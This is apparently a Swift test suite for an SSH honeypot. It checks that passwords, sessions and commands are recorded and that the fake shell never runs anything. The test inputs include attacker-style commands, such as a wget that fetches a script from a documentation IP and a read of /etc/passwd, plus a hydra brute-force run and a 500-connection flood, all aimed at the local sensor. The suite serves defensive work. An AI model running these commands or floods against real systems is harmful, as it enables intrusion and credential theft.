import Crypto
import Foundation
import Logging
import PalisadeCore
import PalisadeHoneypot
import PalisadeSSH
import PalisadeTesting
import Synchronization
import Testing

/// The honeypot with Debian's OpenSSH client: every password tried is an event, the sixth failure
/// ends the connection with OpenSSH's message, a login with a listed credential gets a fake Debian
/// shell whose commands are events in order, and a command is answered, never run.
@Suite(.serialized) struct HoneypotTests {
    final class Sink: HoneypotSink {
        let events = Mutex<[JSONValue]>([])
        func record(_ batch: [JSONValue]) async { events.withLock { $0 += batch } }

        func actions() -> [String] {
            events.withLock { $0 }.compactMap { if case .object(let m) = $0, case .string(let a)? = m["action"] { a } else { nil } }
        }

        func metadata(_ action: String, _ field: String) -> [String] {
            events.withLock { $0 }.compactMap { event in
                guard case .object(let m) = event, m["action"] == .string(action), case .object(let meta)? = m["metadata"],
                    case .string(let value)? = meta[field]
                else { return nil }
                return value
            }
        }
    }

    /// A honeypot on a free port, with root/toor listed, short failure delays, (unless given) no
    /// rate limits, and an evidence store if given.
    static func honeypot(
        _ sink: Sink,
        limits: AddressRateLimits.Limits = .off,
        evidence: EvidenceStore? = nil,
        configure: (inout HoneypotServer.Configuration) -> Void = { _ in }
    ) async throws -> (HoneypotServer, Int) {
        var configuration = HoneypotServer.Configuration(
            port: 0,
            hostKeys: [HostKey(ed25519: Curve25519.Signing.PrivateKey())],
            policy: LoginPolicy(credentials: ["root": ["toor"]]),
            failureDelay: 0.05...0.1,
            rateLimits: limits,
            evidence: evidence
        )
        configure(&configuration)
        let server = HoneypotServer(configuration: configuration, sink: sink, logger: Logger(label: "test"))
        return (server, try await server.start())
    }

    static func ssh(port: Int, password: String, _ arguments: [String], input: String = "") async throws -> ExternalProcess.Result {
        try await OpenSSHClient.run(port: port, password: password, arguments, input: input)
    }

    /// Waits until the sink has seen `action` (events reach it asynchronously).
    static func waitFor(_ sink: Sink, _ action: String, count: Int = 1) async throws {
        for _ in 0..<300 where sink.actions().filter({ $0 == action }).count < count { try await Task.sleep(for: .milliseconds(20)) }
    }

    @Test func everyPasswordIsCapturedAndTheSixthFailureDisconnects() async throws {
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink)
        let result = try await Self.ssh(port: port, password: "hunter2", ["-o", "NumberOfPasswordPrompts=10", "admin@127.0.0.1", "id"])
        #expect(result.status == 255 && result.stderr.contains("Too many authentication failures"), "\(result.stderr)")
        try await Self.waitFor(sink, "ssh.disconnect")
        #expect(sink.metadata("ssh.auth_failed", "password") == Array(repeating: "hunter2", count: 6), "\(sink.actions())")
        #expect(sink.actions().first == "ssh.connect" && sink.actions().contains("ssh.kex") && sink.actions().last == "ssh.disconnect")
        #expect(sink.metadata("ssh.kexinit", "hassh").first?.count == 32)
        try await server.stop()
    }

    @Test func aListedCredentialGetsAFakeShellAndNothingRuns() async throws {
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink)
        let exec = try await Self.ssh(port: port, password: "toor", ["root@127.0.0.1", "uname -a"])
        #expect(exec.status == 0 && exec.stdout == FakeShell.Profile.debian12.kernel + "\n", "\(exec.stdout)\(exec.stderr)")
        let unknown = try await Self.ssh(port: port, password: "toor", ["root@127.0.0.1", "nmap -sS 10.0.0.0/8"])
        #expect(unknown.status == 127 && unknown.stdout.contains("-bash: nmap: command not found"), "\(unknown.stdout)")
        let interactive = try await Self.ssh(
            port: port,
            password: "toor",
            ["-tt", "root@127.0.0.1"],
            input: "id\nwget http://203.0.113.9/x.sh\ncat /etc/passwd\nexit\n"
        )
        #expect(
            interactive.status == 0 && interactive.stdout.contains("uid=0(root)") && interactive.stdout.contains("www-data:x:33"),
            "\(interactive.stdout)"
        )
        try await Self.waitFor(sink, "ssh.disconnect", count: 3)
        #expect(sink.metadata("ssh.exec", "command") == ["uname -a", "nmap -sS 10.0.0.0/8"])
        #expect(sink.metadata("ssh.command", "command") == ["id", "wget http://203.0.113.9/x.sh", "cat /etc/passwd", "exit"], "\(sink.actions())")
        let tags = sink.events.withLock { $0 }.compactMap { event -> [JSONValue]? in
            guard case .object(let m) = event, m["action"] == .string("ssh.command"), case .object(let meta)? = m["metadata"],
                case .array(let mitre)? = meta["mitre"], meta["command"] == .string("wget http://203.0.113.9/x.sh")
            else { return nil }
            return mitre
        }
        #expect(tags.first?.contains(.string("T1105")) == true)
        #expect(sink.actions().filter { $0 == "ssh.login" }.count == 3)
        try await server.stop()
    }

    @Test func hydraBruteForcingTwoHundredPasswordsHasEveryAttemptRecorded() async throws {
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink)
        let work = try TemporaryDirectory.make("palisade-hydra")
        let passwords = (0..<200).map { "guess-\($0)" }
        let list = work.appendingPathComponent("passwords.txt")
        try (passwords.joined(separator: "\n") + "\n").write(to: list, atomically: true, encoding: .utf8)
        let result = try await ExternalProcess.runDetached(
            "/usr/bin/env",
            ["hydra", "-I", "-t", "4", "-w", "2", "-l", "root", "-P", list.path, "-s", "\(port)", "ssh://127.0.0.1"],
            directory: work
        )
        // (-w 2: hydra waits that long for an answer to the attempt OpenSSH answers with a disconnect,
        // the sixth on a connection, before trying it again on a new one.)
        #expect(result.stdout.contains("0 valid password"), "\(result.stdout)\(result.stderr) \(sink.metadata("ssh.protocol_error", "reason"))")
        for _ in 0..<600 where Set(sink.metadata("ssh.auth_failed", "password")).count < passwords.count {
            try await Task.sleep(for: .milliseconds(50))
        }
        let captured = Set(sink.metadata("ssh.auth_failed", "password"))
        #expect(captured == Set(passwords), "\(passwords.count - captured.intersection(passwords).count) passwords were not recorded")
        let clients = Set(sink.metadata("ssh.client_version", "client_version"))
        #expect(clients.contains { $0.contains("libssh") }, "\(clients)")
        try await server.stop()
    }

    func outcomes(_ sink: Sink, _ action: String) -> [String] { sink.metadata(action, "outcome") }

    @Test func attemptsAndConnectionsOverTheAddressLimitsAreRefusedAndStillRecorded() async throws {
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink, limits: .init(connectionsPerMinute: 3, attemptsPerHour: 2))
        let wrong = try await Self.ssh(port: port, password: "hunter2", ["-o", "NumberOfPasswordPrompts=2", "root@127.0.0.1", "id"])
        #expect(wrong.status == 255 && wrong.stderr.contains("Permission denied"), "\(wrong.stderr)")
        // The third attempt is over the limit: refused although the password is listed.
        let right = try await Self.ssh(port: port, password: "toor", ["-o", "NumberOfPasswordPrompts=1", "root@127.0.0.1", "id"])
        #expect(right.status == 255 && right.stderr.contains("Permission denied"), "\(right.stderr)")
        _ = try await Self.ssh(port: port, password: "toor", ["-o", "NumberOfPasswordPrompts=1", "root@127.0.0.1", "id"])
        // The fourth connection in a minute is closed before the banner.
        let fourth = try await Self.ssh(port: port, password: "toor", ["root@127.0.0.1", "id"])
        #expect(fourth.status == 255 && fourth.stderr.contains("kex_exchange_identification"), "\(fourth.stderr)")
        try await Self.waitFor(sink, "ssh.disconnect", count: 3)
        for _ in 0..<100 where outcomes(sink, "ssh.connect").count < 4 { try await Task.sleep(for: .milliseconds(20)) }
        // (The "none" probe each client starts with is recorded and never counted.)
        let methods = sink.metadata("ssh.auth_failed", "method")
        let passwordOutcomes = zip(methods, outcomes(sink, "ssh.auth_failed")).filter { $0.0 == "password" }.map(\.1)
        #expect(passwordOutcomes == ["failed", "failed", "rate_limited", "rate_limited"], "\(methods)")
        #expect(sink.metadata("ssh.auth_failed", "password") == ["hunter2", "hunter2", "toor", "toor"])
        #expect(outcomes(sink, "ssh.connect") == ["accepted", "accepted", "accepted", "rate_limited"])
        #expect(!sink.actions().contains("ssh.login"))
        try await server.stop()
    }

    @Test func fiveHundredConnectionsFromOneAddressLeaveTheSensorCapturingOthers() async throws {
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink, limits: .init())
        let script = """
            import socket, sys
            port = int(sys.argv[1])
            sockets = []
            for _ in range(500):
                s = socket.socket(); s.settimeout(10); s.connect(("127.0.0.1", port)); sockets.append(s)
            banners = 0
            for s in sockets:
                try:
                    if s.recv(64).startswith(b"SSH-2.0-"): banners += 1
                except OSError:
                    pass
            print(f"banners {banners}")
            for s in sockets: s.close()
            """
        let (python, arguments) = ExternalProcess.pythonArguments(["-c", script, "\(port)"])
        let flood = try await ExternalProcess.runDetached(python, arguments)
        #expect(flood.stdout == "banners 10\n", "at most 10 at once, and 10 a minute, from one address: \(flood.stdout)\(flood.stderr)")
        // Another address (127.0.0.2 is loopback too) is still served and captured.
        let other = try await Self.ssh(port: port, password: "toor", ["-b", "127.0.0.2", "root@127.0.0.1", "id"])
        #expect(other.status == 0 && other.stdout.contains("uid=0(root)"), "\(other.stderr)")
        for _ in 0..<300 where outcomes(sink, "ssh.connect").count < 501 || sink.metadata("ssh.login", "username").isEmpty {
            try await Task.sleep(for: .milliseconds(20))
        }
        let connects = outcomes(sink, "ssh.connect")
        #expect(
            connects.count == 501 && connects.filter { $0 == "accepted" }.count == 11,
            "\(Dictionary(grouping: connects) { $0 }.mapValues(\.count))"
        )
        #expect(sink.metadata("ssh.login", "username") == ["root"])
        try await server.stop()
    }

    @Test func idleAndOversizedConnectionsAreClosedAndSaySo() async throws {
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink) {
            $0.idleSeconds = 1
            $0.maxBytesIn = 100
        }
        let script = """
            import socket, sys, time
            port = int(sys.argv[1])
            idle = socket.create_connection(("127.0.0.1", port)); idle.settimeout(10); idle.recv(4096)
            start = time.time()
            while idle.recv(4096): pass
            print(f"idle closed after {time.time() - start:.0f} s")
            flood = socket.create_connection(("127.0.0.1", port)); flood.recv(4096)
            try:
                # A packet announced at 1020 bytes, of which 200 arrive: buffered until the limit.
                flood.sendall(b"SSH-2.0-flood\\r\\n" + (1020).to_bytes(4, "big") + b"\\x04" * 200)
            except OSError:
                pass
            print("flood done")
            """
        let result = try ExternalProcess.python(script: script, arguments: ["\(port)"])
        #expect(result.stdout.contains("idle closed after") && result.stdout.contains("flood done"), "\(result.stdout)\(result.stderr)")
        try await Self.waitFor(sink, "ssh.disconnect", count: 2)
        let reasons = Set(sink.metadata("ssh.disconnect", "closed_by_sensor"))
        #expect(reasons == ["idle_timeout", "byte_limit"], "\(reasons)")
        try await server.stop()
    }

    @Test func sessionsAreRekeyedOnATimerAndCarryOn() async throws {
        let sink = Sink()
        let (server, port) = try await Self.honeypot(sink) { $0.rekeySeconds = 1 }
        let script = """
            import sys, time, paramiko
            client = paramiko.SSHClient(); client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
            client.connect("127.0.0.1", port=int(sys.argv[1]), username="root", password="toor", look_for_keys=False, allow_agent=False)
            time.sleep(2.5)
            _, out, _ = client.exec_command("id")
            print(out.read().decode().strip())
            client.close()
            """
        let (python, arguments) = ExternalProcess.pythonArguments(["-c", script, "\(port)"])
        let result = try await ExternalProcess.runDetached(python, arguments)
        #expect(result.stdout.contains("uid=0(root)"), "\(result.stdout)\(result.stderr)")
        try await Self.waitFor(sink, "ssh.disconnect")
        let byClient = sink.events.withLock { $0 }.compactMap { event -> Bool? in
            guard case .object(let m) = event, m["action"] == .string("ssh.rekey"), case .object(let meta)? = m["metadata"],
                case .bool(let flag)? = meta["by_client"]
            else { return nil }
            return flag
        }
        #expect(byClient.count >= 2 && byClient.allSatisfy { !$0 }, "server-started re-keys every second: \(byClient)")
        try await server.stop()
    }
}
